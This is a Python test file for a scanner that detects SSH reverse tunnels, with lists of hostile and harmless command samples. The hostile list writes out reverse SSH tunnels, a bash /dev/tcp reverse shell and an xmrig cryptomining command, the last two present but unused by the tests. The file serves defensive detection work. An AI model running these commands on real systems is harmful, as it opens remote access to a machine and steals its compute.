"""Tests of a command scanner: the samples are text, and none is run."""

import re
import shlex
import unittest

REVERSE = re.compile(r"\bssh\b.*\s-\w*R\s*\S+:\S+")

HOSTILE = [
    "ssh -N -R 2222:localhost:22 ops@203.0.113.5",
    "ssh -fNR 8080:localhost:80 web@203.0.113.6",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "xmrig -o pool.supportxmr.com:3333 -u 48x --donate-level 1",
]
HARMLESS = [
    "ssh -L 8080:localhost:80 web@203.0.113.6",
    "grep -R 'ssh -R' docs/",
]


def is_reverse(command: str) -> bool:
    words = shlex.split(command)
    return bool(words) and words[0] == "ssh" and bool(REVERSE.search(command))


class ReverseTunnelTest(unittest.TestCase):
    def test_hostile(self) -> None:
        self.assertTrue(is_reverse(HOSTILE[0]))
        self.assertTrue(is_reverse(HOSTILE[1]))

    def test_harmless(self) -> None:
        for command in HARMLESS:
            with self.subTest(command=command):
                self.assertFalse(is_reverse(command))


if __name__ == "__main__":
    unittest.main()
